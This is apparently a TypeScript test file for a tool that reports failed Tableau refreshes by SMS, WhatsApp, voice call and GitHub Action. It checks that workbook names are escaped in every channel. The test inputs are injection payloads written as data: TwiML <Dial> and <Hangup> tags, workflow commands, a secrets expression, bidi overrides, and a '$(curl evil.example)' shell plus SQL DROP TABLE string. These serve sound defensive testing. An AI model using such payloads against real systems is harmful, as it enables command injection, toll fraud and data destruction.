import assert from 'node:assert/strict';
import { describe, type TestContext, test } from 'node:test';
import type { SimulatedContent } from '../../sandbox/services/tableau/site.ts';
import { aSite } from '../support/site.ts';

/** The refresh of a workbook fails whose name, project and cause are this text; what it comes to is followed to its ends. */
async function aFailureOf(t: TestContext, name: string) {
  const renamed = (content: SimulatedContent) => ({ ...content, name, project: { id: 'p', name } });
  const site = await aSite(t, { site: ({ content }) => ({ content: content.slice(0, 1).map(renamed) }) });
  const seen = await site.end(`${name}/${name}`, { status: 'Failed', notes: name });
  assert.equal(seen.step.exitCode, 0);
  assert.deepEqual(
    seen.requests.filter(({ service, method }) => service === 'Twilio' && method === 'POST').length,
    3,
    'one text, one WhatsApp message, one call',
  );
  const call = site.twilio.phones.find(({ medium }) => medium === 'call');
  assert.deepEqual(
    call?.verbs,
    ['Pause', 'Say', 'Pause', 'Say'],
    'a call says what it has to say, and does nothing else',
  );
  const [once, ...again] = call?.text.split('\n') ?? [];
  assert.deepEqual(again, [once]);
  // What the runner carries out is checked of every run; what people see is one line wherever we write one.
  const lines = seen.step.log.trim().split('\n');
  assert.equal(lines.filter((line) => !line.startsWith('##[warning]')).length, 5);
  assert.ok(!/[\u200B\u202A-\u202E]/.test(seen.step.log + seen.step.summary + seen.phones.join('')));
  assert.equal(seen.step.commands.filter(({ name: command }) => command === 'error').length, 1);
  assert.equal(site.relay.log.length, 1);
  assert.deepEqual(Object.keys(JSON.parse(site.relay.log[0] ?? '')), ['status', 'outcome', 'event', 'key', 'ms']);
  return { ...seen, spoken: once ?? '' };
}

describe('a name reaches everybody as text, through relay, action and Twilio', { concurrency: 2 }, () => {
  test('with TwiML, workflow commands, mentions, links, Markdown and text that runs backwards', async (t) => {
    const name =
      '"><Dial>+19005550123</Dial>\n::error::x ##[error]y <at>Everyone</at> [a](https://evil.example) *b* \u202Ec';
    const line = '"><Dial>+19005550123</Dial> ::error::x ##[error]y <at>Everyone</at> [a](https://evil.example) *b* c';
    const { phones, cards, annotations, step } = await aFailureOf(t, name);
    const link = 'https://prod-uk-a.online.tableau.com/#/site/haldenfoods/workbooks/15107';
    const short = '"><Dial>+19005550123</Dial> ::error::x ##[error]y <at>Every';
    const unlinked = line.replace('https://evil.example', 'a link');
    const owner = 'ines.moreau@haldenfoods.example';
    // What a voice would spell is left out, and the cause with it, which has the same name once more: 15 seconds are over.
    const said =
      'This is BI Refresh Alerts. " Dial a number /Dial ::error::x error y at Every… failed since DATE. More is in the workflow run on GitHub.';
    assert.deepEqual(phones, [
      `SMS +447700900111: BI alert: ${short}... failed since DATE. ${unlinked}. Owner: ${owner}.`,
      `WhatsApp +447700900222: BI alert: "><Dial>+19005550123</Dial> ::error::x ##[error]y… failed. Where: ${short}…. Since: DATE. The reason given is: ${unlinked}. Open ${link} to look into it. Counted in all: -. Sent by BI Refresh Alerts.`,
      `call +447700900333: ${said}\n${said}`,
    ]);
    assert.deepEqual(cards, [
      [
        `🔴 ${short}… did not refresh`,
        'DATE',
        `${line} · workbook · ${owner}`,
        'Failed',
        line,
        '[ Details ]',
        '▸ folded away: 5 lines',
        '[ Open "><Dial>+19005550123</Dial> :… ] [ Open the workflow run ]',
      ],
    ]);
    assert.deepEqual(annotations, [`error ${line}: Failed | ${line} in ${line}: ${line}.`]);
    const cell =
      '"\\>&lt;Dial\\>\\+19005550123&lt;/Dial\\> \\:\\:error\\:\\:x \\#\\#\\[error\\]y &lt;at\\>Everyone&lt;/at\\> \\[a\\]\\(https\\://evil\\.example\\) \\*b\\* c';
    assert.ok(step.summary.includes(`| **[${cell}](<${link}>)**<br>${cell} | `), step.summary);
  });

  test('with 500 emoji', async (t) => {
    const smiles = (amount: number) => '🙂'.repeat(amount);
    const { phones, spoken } = await aFailureOf(t, smiles(500));
    assert.equal(
      phones[0],
      `SMS +447700900111: BI alert: ${smiles(23)}… failed since DATE. Tableau gave no reason.`,
      'in two segments of Unicode',
    );
    assert.ok(spoken.length <= 450);
  });

  test('with 500 characters, each a family of four', async (t) => {
    const { phones, spoken } = await aFailureOf(t, '👨‍👩‍👧‍👦'.repeat(500));
    assert.match(phones[0] ?? '', /^SMS \+447700900111: /);
    assert.ok(spoken.length <= 450);
  });

  for (const [what, name] of [
    ['quotes and entities', `'"&quot;&#x3C;Say&#x3E;]]><![CDATA[</Say></Response><Hangup/>`],
    ['a right-to-left name', 'مبيعات \u202B2026\u202C\u200F'],
    ['nothing but spaces that nobody sees', ' \u200B\u2060\t'],
    ['an expression of a workflow', '$' + '{{ secrets.TWILIO_API_KEY_SECRET }}'],
    ['shell and SQL', "$(curl evil.example) `id`; '; DROP TABLE jobs; --"],
  ] as const) {
    test(`with ${what}`, async (t) => {
      const { phones } = await aFailureOf(t, name);
      assert.match(phones[0] ?? '', /^SMS \+447700900111: BI alert: \S.* failed since DATE\. \S.* Owner: /);
    });
  }
});
